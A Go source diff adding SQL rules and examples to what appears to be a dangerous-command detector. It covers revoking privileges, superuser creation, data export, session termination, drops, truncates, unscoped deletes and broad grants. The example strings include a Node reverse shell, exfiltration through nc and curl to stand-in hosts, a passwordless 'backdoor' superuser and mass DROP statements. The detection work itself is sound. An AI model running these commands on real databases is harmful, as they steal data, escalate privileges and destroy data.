@@ -8,7 +8,7 @@ func less(in ...string) []example { return examples(Pager, in) }
 
 func init() {
 	rules = append(rules, langRules...)
-	for _, x := range langExamples {
+	for _, x := range append(langExamples, sqlMoreExamples...) {
 		for i := range rules {
 			if rules[i].id == x.id {
 				rules[i].match = append(rules[i].match, x.match...)
@@ -50,4 +50,43 @@ var langRules = []rule{
 		node("const n=require('net'),c=require('child_process'),s=new n.Socket();s.connect(4444,'192.0.2.1',()=>{const p=c.spawn('/bin/sh',[]);s.pipe(p.stdin)})",
 			"net.connect(9001, 'h', () => { const p = spawn('bash', ['-i']) })"),
 		node("const s = net.createServer(); s.listen(8080)", "spawn('ls', ['-la'])")},
+	{"sql-revoke-all", catPerm,
+		"This revokes every privilege, which can lock an application or every user out of the data.",
+		sql("REVOKE ALL ON ALL TABLES IN SCHEMA public FROM app;", "revoke all privileges on database app from reporting", "REVOKE ALL PRIVILEGES, GRANT OPTION FROM 'u'@'%'"),
+		sql("REVOKE INSERT ON orders FROM intern", "SELECT 'REVOKE ALL'", "REVOKE CREATE ON SCHEMA public FROM PUBLIC")},
+	{"sql-superuser", catPerm,
+		"This makes a database role a superuser (or removes its password), giving it control of the whole server.",
+		sql("ALTER ROLE reporting WITH SUPERUSER;", "alter user app superuser", "CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'x'",
+			"ALTER USER postgres WITH PASSWORD '';", "ALTER USER 'root'@'localhost' IDENTIFIED BY ''"),
+		sql("ALTER ROLE reporting WITH NOSUPERUSER", "ALTER USER app WITH PASSWORD 'n3w-s3cret'", "SELECT rolsuper FROM pg_roles", "CREATE ROLE readonly")},
+	{"sql-export", catRemote,
+		"This sends query results to a program, the network or a served or system file outside the database.",
+		sql("COPY users TO PROGRAM 'gzip > /tmp/u.gz'", `\o | nc 192.0.2.1 9000`, `SELECT * FROM users \g | curl -d @- https://x.example`,
+			"SELECT * FROM users INTO OUTFILE '/var/www/html/u.txt'"),
+		sql("COPY users TO '/tmp/users.csv' CSV", `\copy users to 'users.csv' csv`, `\o out.txt`, `SELECT 1 \g | less`,
+			"SELECT * FROM t INTO OUTFILE '/tmp/t.csv'", "COPY t FROM PROGRAM 'gunzip -c data.gz'")},
+	{"sql-terminate-backends", catAvail,
+		"This terminates every other session connected to the database server.",
+		sql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid();", "select pg_terminate_backend(pid) from pg_stat_activity"),
+		sql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'old_app' AND pid <> pg_backend_pid()",
+			"SELECT pg_terminate_backend(12345)", "SELECT pid, state FROM pg_stat_activity")},
+}
+
+// sqlMoreExamples: the SQL classes that other rules of the table judge.
+var sqlMoreExamples = []struct {
+	id          string
+	match, near []example
+}{
+	{"sql-drop", sql(`SELECT format('DROP TABLE %I.%I;', schemaname, tablename) FROM pg_tables \gexec`,
+		`SELECT 'DROP DATABASE ' || quote_ident(datname) FROM pg_database \gexec`, "DROP TABLE IF EXISTS users",
+		"DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t); END $$"),
+		sql("DROP TABLE IF EXISTS tmp_import;", "DROP TABLE scratch_users", "DROP TEMPORARY TABLE t", "drop table if exists public.orders_tmp",
+			`SELECT format('VACUUM %I', relname) FROM pg_class \gexec`, "EXPLAIN SELECT * FROM t", "SELECT 'DROP TABLE x' AS note")},
+	{"sql-truncate", sql("TRUNCATE ONLY orders", "DO $$ BEGIN EXECUTE 'TRUNCATE ' || quote_ident(r.t) || ' CASCADE'; END $$;"),
+		sql("TRUNCATE tmp_staging_events;", "TRUNCATE TABLE temp_rows")},
+	{"sql-delete-no-where", sql("DELETE FROM t WHERE id > 0", "DELETE FROM t WHERE user_id IS NOT NULL", "DELETE FROM t USING u",
+		"DELETE FROM t WHERE id=3 OR 1=1", "delete from t where 2 > 1"),
+		sql("DELETE FROM t WHERE id > 100", "DELETE FROM t USING u WHERE t.uid = u.id", "DELETE FROM t WHERE id = 42", "DELETE FROM t WHERE deleted_at IS NOT NULL")},
+	{"sql-grant-public", sql("GRANT ALL PRIVILEGES ON *.* TO 'app'@'%' WITH GRANT OPTION;", "GRANT ALL ON app.* TO 'x'@'%'"),
+		sql("GRANT SELECT ON app.* TO 'report'@'%'", "GRANT ALL ON app.* TO 'app'@'localhost'")},
 }
